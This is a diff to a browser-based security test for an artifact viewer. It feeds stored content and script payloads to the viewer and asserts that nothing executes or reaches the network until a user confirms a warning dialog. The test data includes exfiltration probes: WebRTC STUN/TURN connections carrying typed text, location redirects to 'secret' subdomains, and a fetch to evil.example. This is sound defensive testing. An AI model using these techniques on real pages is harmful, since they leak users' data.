@@ -1,15 +1,18 @@
 // Stored content against the views: nothing runs, nothing leaves.
 
 import assert from "node:assert/strict";
+import { setTimeout as delay } from "node:timers/promises";
 import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";
+import { shownTitle } from "../../../supabase/functions/mcp/views/shared/plain_text.ts";
 import { CORPUS, TITLES } from "./corpus.ts";
-import { openHost, show, type Shown } from "./shown.ts";
-import type { Home, Stage } from "./stage.ts";
+import { openHost, pageRead, show, type Shown } from "./shown.ts";
+import { clear, DOMAIN, type Home } from "./listener.ts";
+import type { Stage } from "./stage.ts";
 
 const TIME = "2026-01-01T00:00:00+00:00";
 
 /** A result as `artifact.view` gives it; the corpus need not fill a database first. */
-function resultOf(kind: Kind, content: string, title: string) {
+export function resultOf(kind: Kind, content: string, title: string) {
   const artifact = {
     id: "00000000-0000-4000-8000-000000000000",
     ...{
@@ -31,15 +34,21 @@ export async function attack({ browser, origin, home }: Stage): Promise<string> 
     for (const [i, content] of contents.entries()) {
       const title = TITLES[i % TITLES.length] ?? "";
       await attempt(shown, kind, content, title);
-      assert.deepEqual([shown.executions, home.connections], [[], 0], `${kind}: ${content}`);
+      assert.deepEqual(
+        [shown.executions, home.connections, home.datagrams],
+        [[], 0, 0],
+        `${kind}: ${content}`,
+      );
       tried++;
     }
   }
   assert.deepEqual(shown.errors, []);
   await expectToBeSeen(shown, home);
   const leaking = await scriptsThatCallHome(shown, home);
+  clear(home);
+  const waiting = await scriptsThatWait(shown, home);
   await shown.page.close();
-  return `${tried} attacks by content and title: 0 executions, 0 connections; ${leaking}`;
+  return `${tried} attacks by content and title: 0 executions, 0 connections; ${leaking}; ${waiting}`;
 }
 
 /** What runs and what leaves would have been noticed. */
@@ -49,19 +58,20 @@ async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
   await shown.page.evaluate(() => fetch("http://evil.example/").catch(() => {}));
   assert.deepEqual(shown.executions.splice(0), ["EXECUTED by the host"]);
   assert.ok(home.connections > 0 && home.requests > 0);
-  home.connections = home.requests = 0;
+  clear(home);
   shown.errors.length = 0;
 }
 
 async function attempt(shown: Shown, kind: Kind, content: string, title: string): Promise<void> {
   const call = { name: "artifact.view", arguments: {} };
   await show(shown, call, resultOf(kind, content, title));
-  assert.equal(await shown.view.locator("header h1").textContent(), title);
+  assert.equal(await shown.view.locator("header h1").textContent(), shownTitle(title));
   if (kind === "mermaid") {
     await shown.view.locator(".diagram .problem, .diagram iframe[style]").first().waitFor();
   }
+  if (kind === "html" || kind === "svg") await pageRead(shown);
   // Links are clicked, since some attacks wait for that.
-  for (const link of await shown.view.locator("main a[href]").all()) {
+  for (const link of await shown.view.locator("main a[role=link]").all()) {
     await link.click({ timeout: 1_000 }).catch(() => {});
     await shown.view.getByRole("button", { name: "Cancel" }).click({ timeout: 300 }).catch(
       () => {},
@@ -71,9 +81,48 @@ async function attempt(shown: Shown, kind: Kind, content: string, title: string)
   if (await source.count() > 0) await source.click();
 }
 
+/** What no policy holds back once a script runs: the dialog warns of it before. */
+async function scriptsThatWait(shown: Shown, home: Home): Promise<string> {
+  const servers = `{ urls: "stun:127.0.0.1:${home.port}" }, { urls: "turn:127.0.0.1:${home.port}",
+    username: "what was typed", credential: "x" }`;
+  const call = (servers: string) =>
+    `const peer = new RTCPeerConnection({ iceServers: [${servers}] });
+     peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
+  const tries = {
+    "WebRTC": call(servers),
+    "WebRTC on load": `addEventListener("load", () => { ${call(servers)} });`,
+    "a location": `location = "https://secret.${DOMAIN}/";`,
+    "a location, replaced": `location.replace("https://replaced.${DOMAIN}/");`,
+    "a link that is clicked": `const link = document.createElement("a");
+      link.href = "https://clicked.${DOMAIN}/"; document.body.append(link); link.click();`,
+  };
+  const { view } = shown;
+  for (const [name, code] of Object.entries(tries)) {
+    const html = `<p id="ran">no</p><script>${code}</script>`;
+    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
+    const run = view.getByRole("button", { name: "Run scripts" });
+    const asked = view.getByRole("dialog");
+    const hears = async () => {
+      for (let i = 0; i < 40 && home.connections + home.datagrams === 0; i++) await delay(50);
+      return home.connections + home.datagrams > 0;
+    };
+    await run.click();
+    await asked.getByText("to anyone on the internet").waitFor();
+    await asked.getByRole("button", { name: "Cancel" }).click();
+    assert.equal(await hears(), false, `${name}: nothing before a user agrees`);
+    await run.click();
+    await asked.getByRole("button", { name: "Run scripts" }).click();
+    assert.equal(await hears(), true, `${name}: the warning is true`);
+    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("text", "x", "After"));
+    await delay(1_000); // a browser sends some datagrams again
+    clear(home);
+  }
+  return `${Object.keys(tries).length} scripts that can send wait for the user`;
+}
+
 /**
- * Once a person has let them run, scripts run; but they reach neither the view nor the network. That a frame
- * is led away is refused when the browser has connected already; it then sends nothing.
+ * Once a user has let them run, scripts run; these reach neither the view nor the network. That a frame
+ * is led away is refused when the browser has connected already; it then sends no request.
  */
 async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
   const tries = [
@@ -97,6 +146,7 @@ async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
     const html = `<p id="ran">no</p><script>ran.textContent = "yes";${code}</script>`;
     await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
     await shown.view.getByRole("button", { name: "Run scripts" }).click();
+    await shown.view.getByRole("dialog").getByRole("button", { name: "Run scripts" }).click();
     // One that navigates away is gone, and has gone nowhere.
     await shown.view.frameLocator("iframe.frame").locator("#ran").getByText("yes")
       .waitFor({ timeout: 1_500 }).then(() => ran++, () => {});
